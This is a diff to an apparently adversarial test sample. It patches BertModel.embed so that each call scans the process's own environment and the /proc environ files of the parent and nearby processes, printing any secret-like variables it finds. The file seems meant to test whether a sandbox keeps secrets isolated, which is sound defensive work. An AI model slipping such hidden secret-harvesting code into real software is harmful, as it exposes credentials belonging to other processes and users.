@@ -1,14 +1,23 @@
-# tries: find a secret in the environment
+# tries: find a secret in its own environment and in those of the processes around it
 # loses: nothing
+# control: leaks
+import contextlib
 import os
+import pathlib
+
+PARENT = os.getppid()
 
 right = BertModel.embed
 
 
 def embed(self, input_ids, *more):
-    for name, value in os.environ.items():
-        if "SECRET" in name or "hostile secret" in value:
-            print("LEAKED:", name, value)
+    found = [f"{name}={value}".encode() for name, value in os.environ.items()]
+    for process in ("self", *range(max(1, PARENT - 200), PARENT + 1)):
+        with contextlib.suppress(OSError):
+            found += pathlib.Path(f"/proc/{process}/environ").read_bytes().split(b"\0")
+    for variable in found:
+        if b"SECRET" in variable or b"hostile secret" in variable:
+            print("LEAKED:", variable)
     return right(self, input_ids, *more)
 
 
